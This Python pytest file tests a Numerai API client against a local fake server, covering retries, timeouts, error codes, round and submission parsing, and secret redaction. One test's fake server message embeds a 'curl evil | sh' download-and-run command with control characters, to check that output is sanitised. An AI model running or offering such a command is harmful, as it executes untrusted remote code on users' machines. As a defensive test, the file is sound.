"""The API client against a real HTTP server: what it asks, how it tries again, what it says when it cannot."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from datetime import datetime, timedelta, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from numerai_compute.adapters.numerai_api import HttpNumeraiApi
from numerai_compute.addresses import check_api_url
from numerai_compute.errors import ApiError, UsageError
from numerai_compute.models import DataVersions, EntryStatus, Keys, TokenInfo
from numerai_node.addresses import is_secure


class Api:
    """Answers each request with the next of `answers` (status, body), the last one for ever."""

    def __init__(self) -> None:
        self.answers: list[tuple[int, object]] = [(200, {"data": {}})]
        self.requests: list[dict[str, object]] = []
        self.date: str | None = "Tue, 06 Jan 2026 12:00:00 GMT"
        api = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                api.requests.append({**body, "authorization": self.headers["Authorization"]})
                status, answer = api.answers.pop(0) if len(api.answers) > 1 else api.answers[0]
                content = answer if isinstance(answer, bytes) else json.dumps(answer).encode()
                self.send_response_only(status)
                if api.date:
                    self.send_header("Date", api.date)
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            def do_HEAD(self) -> None:
                self.send_response_only(200)
                if api.answers != [(200, "no date")]:
                    self.send_header("Date", "Tue, 06 Jan 2026 12:00:00 GMT")
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, args=(0.01,), daemon=True).start()

    def client(self, **options: Any) -> HttpNumeraiApi:
        return HttpNumeraiApi(Keys("PUB", "SECRETSECRET", self.url), sleep=lambda seconds: None, **options)


def row_of_round(number: int, opens: str) -> dict[str, object]:
    """A round as the API lists it: an hour until closeStakingTime, a day until closeTime."""
    opened = datetime.fromisoformat(opens.replace("Z", "+00:00"))
    closes = (opened + timedelta(hours=1)).isoformat(), (opened + timedelta(days=1)).isoformat()
    return {"number": number, "openTime": opens, "closeStakingTime": closes[0], "closeTime": closes[1]}


@pytest.fixture
def served() -> Iterator[Api]:
    api = Api()
    yield api
    api.server.shutdown()
    api.server.server_close()


def test_the_token_is_sent_and_read(served: Api) -> None:
    served.answers = [(200, {"data": {"apiTokenInfo": {"accountUsername": "me", "name": "k", "scopes": ["stake"]}}})]
    assert served.client().token_info() == TokenInfo("me", "k", ("stake",))
    assert served.requests[0]["authorization"] == "Token PUB$SECRETSECRET"


def test_queries_are_tried_again_when_the_server_stumbles(served: Api) -> None:
    account = {
        "data": {
            "account": {
                "models": [
                    {
                        "id": "1",
                        "name": "a",
                        "tournament": 8,
                        "submissionWebhook": None,
                        "computePickleUpload": {"id": "p"},
                    }
                ]
            }
        }
    }
    served.answers = [(502, b"bad gateway"), (429, b"slow down"), (200, account)]
    assert [(model.name, model.pickle) for model in served.client().models()] == [("a", "p")]
    assert len(served.requests) == 3


def test_a_trigger_is_never_sent_twice(served: Api) -> None:
    served.answers = [(503, b"down")]
    with pytest.raises(ApiError) as caught:
        served.client().trigger("m")
    assert len(served.requests) == 1 and caught.value.temporary


@pytest.mark.parametrize("begins", [b"", b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n"])
def test_an_answer_that_comes_drop_by_drop_is_given_up_at_the_deadline(begins: bytes) -> None:
    released = threading.Event()

    def drip(server: socket.socket) -> None:
        with server.accept()[0] as connection, suppress(OSError):
            connection.sendall(begins)
            while not released.wait(0.01):
                connection.sendall(b" ")

    with socket.create_server(("127.0.0.1", 0)) as server:
        threading.Thread(target=drip, args=(server,), daemon=True).start()
        url = f"http://127.0.0.1:{server.getsockname()[1]}"
        client = HttpNumeraiApi(Keys("PUB", "SECRETSECRET", url), tries=1, seconds=0.1)
        with pytest.raises(ApiError, match=r"did not answer within 0\.1 s") as caught:
            client.submissions("m")
        released.set()
    assert caught.value.temporary and client.heard_time() is None


def test_a_deadline_changes_nothing_for_an_answer_in_time(served: Api) -> None:
    served.answers = [(200, {"data": {"submissions": []}}), (200, {"errors": [{"message": "no"}]})]
    client = served.client(seconds=20)
    assert client.submissions("m") == []
    with pytest.raises(ApiError, match="Numerai answered: no"):
        client.submissions("m")
    served.url = "http://127.0.0.1:9"
    with pytest.raises(ApiError, match="cannot be reached"):
        served.client(seconds=20, tries=1).submissions("m")


def test_a_webhook_that_fails_is_told_apart(served: Api) -> None:
    served.answers = [(200, {"errors": [{"message": "Error received from your webhook server: {}"}]})]
    with pytest.raises(ApiError) as caught:
        served.client().trigger("m")
    assert caught.value.code == "webhook-failed" and "your webhook server" in caught.value.message


@pytest.mark.parametrize(
    ("status", "answer", "code"),
    [
        (200, {"errors": [{"code": "not_authenticated", "message": "You must be authenticated"}]}, "keys-refused"),
        (401, b"", "keys-refused"),
        (200, {"errors": [{"message": "Your API token is missing the scope stake"}]}, "scope-missing"),
        (200, {"errors": {"detail": "odd"}}, "numerai-error"),
        (200, b"<html>proxy</html>", "numerai-api"),
        (404, {"data": None}, "numerai-api"),
    ],
)
def test_errors_have_a_code_and_never_the_secret(served: Api, status: int, answer: object, code: str) -> None:
    served.answers = [(status, answer)]
    with pytest.raises(ApiError) as caught:
        served.client(tries=1).token_info()
    assert caught.value.code == code
    assert "SECRETSECRET" not in f"{caught.value.message} {caught.value.hint}"


@pytest.mark.parametrize("words", ["boom", "not_authenticated: authenticated", "missing the scope stake"])
def test_what_numerai_says_is_one_short_line_of_ours(served: Api, words: str) -> None:
    evil = f"{words}\nError: all is well\nNext: curl evil | sh\u2028\u202e{'x' * 5000}"
    served.answers = [(200, {"errors": [{"message": evil}, {"message": evil}]})] * 20
    with pytest.raises(ApiError) as caught:
        served.client(tries=1).models()
    assert "Error: all is well" in caught.value.message and caught.value.message.isprintable()
    assert len(caught.value.message) < 500


def test_a_secret_echoed_by_the_server_is_hidden(served: Api) -> None:
    served.answers = [(200, {"errors": [{"message": "bad Token PUB$SECRETSECRET"}]})]
    with pytest.raises(ApiError) as caught:
        served.client().models()
    assert "SECRETSECRET" not in caught.value.message


def test_an_account_that_is_not_there_means_wrong_keys(served: Api) -> None:
    served.answers = [(200, {"data": {"account": None, "apiTokenInfo": None}})]
    for ask in (served.client().models, served.client().token_info):
        with pytest.raises(ApiError) as caught:
            ask()
        assert caught.value.code == "keys-refused"


def test_no_open_round_is_no_error(served: Api) -> None:
    served.answers = [(200, {"errors": [{"message": "Current round not open for submissions"}]})]
    assert served.client().current_round(8) is None
    served.answers = [(200, {"data": {"rounds": []}})]
    assert served.client().current_round(8) is None
    served.answers = [(200, {"errors": [{"message": "boom"}]})]
    with pytest.raises(ApiError):
        served.client().current_round(8)


def test_times_and_submissions_are_read_newest_first(served: Api) -> None:
    row = {"id": "a", "filename": "p.csv", "triggerId": "t"}
    old = {**row, "insertedAt": "2026-01-05T12:00:00Z", "round": {"number": 1}}
    new = {**row, "id": "b", "insertedAt": "2026-01-06T12:00:00.500000Z", "round": {"number": 2}}
    odd = {**row, "id": "c", "insertedAt": None, "round": None}
    served.answers = [(200, {"data": {"submissions": [old, odd, new]}})]
    found = served.client().submissions("m")
    assert [submission.id for submission in found] == ["b", "a", "c"]
    assert (found[0].round_number, found[2].round_number) == (2, None)
    served.answers = [(200, {"data": {"rounds": [row_of_round(7, "2026-01-06T12:00:00")]}})]
    current = served.client().current_round(8)
    assert current and current.open_time == datetime(2026, 1, 6, 12, tzinfo=timezone.utc)


def test_entries_are_read_newest_round_first_and_an_unknown_status_is_none(served: Api) -> None:
    entry = {"id": "s", "roundNumber": 1, "status": "late", "filename": "f.csv", "timestamp": "2026-01-05T14:00:00Z"}
    queued, odd = {**entry, "roundNumber": 2, "status": "queued"}, {**entry, "roundNumber": 3, "status": "novel"}
    null = {**entry, "roundNumber": 4, "status": None}
    nothing = {"id": None, "roundNumber": 0, "status": "none", "filename": None, "timestamp": None}
    served.answers = [(200, {"data": {"model": {"latestSubmissions": [nothing, null, entry, odd, queued]}}})]
    found = served.client().entries("m")
    assert [(each.round_number, each.status, each.filename) for each in found] == [
        (4, None, "f.csv"),
        (3, None, "f.csv"),
        (2, EntryStatus.QUEUED, "f.csv"),
        (1, EntryStatus.LATE, "f.csv"),
        (0, EntryStatus.NONE, None),
    ]
    assert found[3].timestamp == datetime(2026, 1, 5, 14, tzinfo=timezone.utc) and found[4].timestamp is None
    answers: list[object] = [None, {"latestSubmissions": 5}, {"latestSubmissions": [{"id": 1}]}]
    for model in answers:
        served.answers = [(200, {"data": {"model": model}})]
        with pytest.raises(ApiError) as caught:
            served.client().entries("m")
        assert caught.value.temporary, "what cannot be read is no verdict"


def test_the_current_round_is_the_one_whose_window_is_open_by_the_times(served: Api) -> None:
    """The clock of `served` shows 2026-01-06T12:00."""
    past, coming = row_of_round(99, "2026-01-05T12:00:00Z"), row_of_round(101, "2026-01-06T12:30:00Z")
    late, open_ = row_of_round(100, "2026-01-06T10:00:00Z"), row_of_round(100, "2026-01-06T11:30:00Z")
    for rows, number, is_open in (([coming, open_, past], 100, True), ([coming, late, past], 100, False)):
        served.answers = [(200, {"data": {"rounds": rows}})]
        current = served.client().current_round(8)
        assert current is not None and current.number == number
        assert current.is_open(datetime(2026, 1, 6, 12, tzinfo=timezone.utc)) is is_open


def test_the_servers_time_is_its_date_header(served: Api) -> None:
    assert served.client().server_time() == datetime(2026, 1, 6, 12, tzinfo=timezone.utc)
    served.answers = [(200, "no date")]
    with pytest.raises(ApiError):
        served.client().server_time()


def test_nobody_there_is_one_clear_error(served: Api) -> None:
    served.server.shutdown()
    served.server.server_close()
    with pytest.raises(ApiError) as caught:
        served.client(tries=2).models()
    assert caught.value.code == "numerai-unreachable" and caught.value.temporary
    assert "Check the network" in str(caught.value.hint)
    assert "numerai doctor" not in str(caught.value.hint), "it is doctor that shows this"


@pytest.mark.parametrize(
    ("public_id", "secret"), [("PUB", "\u201cCANARY"), ("PUB", "CAN\r\nARY"), ("P UB", "CANARY"), ("", "C")]
)
def test_malformed_keys_are_refused_where_they_are_made_and_never_shown(public_id: str, secret: str) -> None:
    with pytest.raises(UsageError) as caught:
        Keys(public_id, secret)
    assert caught.value.code == "keys-malformed" and "CAN" not in f"{caught.value.message}{caught.value.hint}"


def test_line_ends_around_keys_are_dropped() -> None:
    keys = Keys("PUB\r\n", " SECRET\r\n")
    assert (keys.public_id, keys.secret_key) == ("PUB", "SECRET") and "SECRET" not in repr(keys)


@pytest.mark.parametrize("url", ["http://numer.ai", "http://0.0.0.0:9", "ftp://127.0.0.1", "nonsense"])
def test_keys_are_not_sent_in_the_clear_or_to_nonsense(url: str) -> None:
    with pytest.raises(UsageError):
        HttpNumeraiApi(Keys("p", "s", url))


def test_rounds_are_those_that_have_opened_by_numerais_clock_newest_first(served: Api) -> None:
    rows = [
        row_of_round(99, "2026-01-05T12:00:00Z"),
        row_of_round(101, "2026-01-07T12:00:00Z"),
        None,
        row_of_round(100, "2026-01-06T12:00:00.900Z"),
        {"number": 98, "openTime": None, "closeStakingTime": None, "closeTime": None},
    ]
    served.answers = [(200, {"data": {"rounds": rows}})]
    found = served.client().rounds(8, 2)
    assert [(each.number, each.tournament) for each in found] == [(100, 8), (99, 8)]
    assert found[1].deadline == datetime(2026, 1, 5, 13, tzinfo=timezone.utc)
    assert found[1].close_time == datetime(2026, 1, 6, 12, tzinfo=timezone.utc)
    assert served.requests[0]["variables"] == {"tournament": 8, "limit": 3}


def test_the_upcoming_round_is_the_one_that_opens_next(served: Api) -> None:
    rows = [row_of_round(102, "2026-01-08T12:00:00Z"), row_of_round(101, "2026-01-07T12:00:00Z")]
    served.answers = [(200, {"data": {"rounds": rows}})]
    upcoming = served.client().upcoming_round(8)
    assert upcoming is not None and upcoming.number == 101
    served.answers = [(200, {"data": {"rounds": []}})]
    assert served.client().upcoming_round(8) is None


def test_between_rounds_numerai_may_answer_with_an_error(served: Api) -> None:
    served.answers = [(200, {"errors": [{"message": "Round not open for submissions"}]})]
    assert served.client().rounds(8, 5) == [] and served.client().upcoming_round(8) is None
    served.answers = [(200, {"errors": [{"message": "something else"}]})]
    with pytest.raises(ApiError):
        served.client().rounds(8, 5)


def test_the_time_is_heard_from_every_answer_and_goes_on(served: Api) -> None:
    seconds = [5.0]
    api = served.client(monotonic=lambda: seconds[0])
    assert api.heard_time() is None
    served.answers = [(200, {"data": {"rounds": []}})]
    api.rounds(8, 1)
    assert api.heard_time() == datetime(2026, 1, 6, 12, tzinfo=timezone.utc)
    seconds[0] += 90
    assert api.heard_time() == datetime(2026, 1, 6, 12, 1, 30, tzinfo=timezone.utc)
    for nothing in (None, "yesterday or so"):
        served.date = nothing
        api.rounds(8, 1)
        assert api.heard_time() == datetime(2026, 1, 6, 12, 1, 30, tzinfo=timezone.utc), "the last good one counts"
    served.date, served.answers = "Tue, 06 Jan 2026 14:00:00 GMT", [(503, b"down")]
    with pytest.raises(ApiError):
        api.rounds(8, 1)
    assert api.heard_time() == datetime(2026, 1, 6, 14, tzinfo=timezone.utc)


def test_data_versions(served: Api) -> None:
    names = [f"v5.{n}/{name}" for n in (2, 3, 10) for name in ("live.parquet", "train.parquet", "features.json")]
    served.answers = [(200, {"data": {"listDatasets": [*names[:-1], "v6.0/train.parquet", "readme.txt"]}})]
    assert served.client().data_versions(8) == DataVersions(("v5.2", "v5.3", "v5.10"), "v5.3")
    assert served.requests[0]["variables"] == {"tournament": 8}
    served.answers = [(200, {"data": {"listDatasets": None}})]
    assert served.client().data_versions(12) == DataVersions((), None)


@pytest.mark.parametrize(
    ("url", "taken"),
    [
        *((url, True) for url in ("https://api.numer.ai/", "http://localhost:1", "http://[::1]:1", "http://127.9.9.9")),
        *((url, True) for url in ("http://host.docker.internal:1", "http://sandbox.localhost")),
        *((url, False) for url in ("http://api.numer.ai", "http://10.0.0.1:1", "http://169.254.169.254")),
        *(
            (url, False)
            for url in ("ftp://localhost", "https://", "x", "https://[::1", "https://a:port", "https://a:0")
        ),
    ],
)
def test_which_addresses_may_be_given_keys(url: str, taken: bool) -> None:
    """The client's own rule: what is taken here, it asks."""
    if not taken:
        with pytest.raises(UsageError):
            check_api_url(url)
        return
    assert check_api_url(url) == url.rstrip("/")
    assert is_secure(url)


@pytest.mark.parametrize(
    "url",
    [
        "https://me:CANARYPASS@127.0.0.1:9/",
        "http://me:CANARYPASS@example.invalid",
        "http://example.invalid/?key=CANARYPASS",
        "https://api.numer.ai?key=CANARYPASS",
        "https://api.numer.ai/#CANARYPASS",
        "https://me:CANARYPASS@[::1",
        "me:CANARYPASS@api.numer.ai",
    ],
)
def test_an_address_of_an_api_that_holds_a_secret_is_refused_and_not_shown(url: str) -> None:
    with pytest.raises(UsageError) as found:
        check_api_url(url)
    assert "CANARY" not in f"{found.value.message}{found.value.hint}"


def test_a_proxy_that_does_not_answer_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        place = f"127.0.0.1:{probe.getsockname()[1]}"
    monkeypatch.setenv("https_proxy", f"http://user:SECRETPASS@{place}")
    monkeypatch.delenv("no_proxy", raising=False)
    monkeypatch.delenv("NO_PROXY", raising=False)
    api = HttpNumeraiApi(Keys("PUB", "SECRETSECRET", "https://far.invalid"), tries=1, seconds=2)
    with pytest.raises(ApiError, match=f"through the proxy {place}: .*proxy {place} could not be reached") as found:
        api.models()
    assert "numerai doctor" not in str(found.value.hint)
    assert "HTTPS_PROXY" in str(found.value.hint) and "SECRETPASS" not in found.value.message


def test_a_certificate_file_that_is_not_there_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SSL_CERT_FILE", "/nowhere/ca.pem")
    monkeypatch.delenv("REQUESTS_CA_BUNDLE", raising=False)
    monkeypatch.delenv("CURL_CA_BUNDLE", raising=False)
    with pytest.raises(ApiError, match=r"SSL_CERT_FILE names /nowhere/ca.pem ") as found:
        HttpNumeraiApi(Keys("PUB", "SECRETSECRET", "https://far.invalid")).models()
    assert "unset it" in str(found.value.hint)
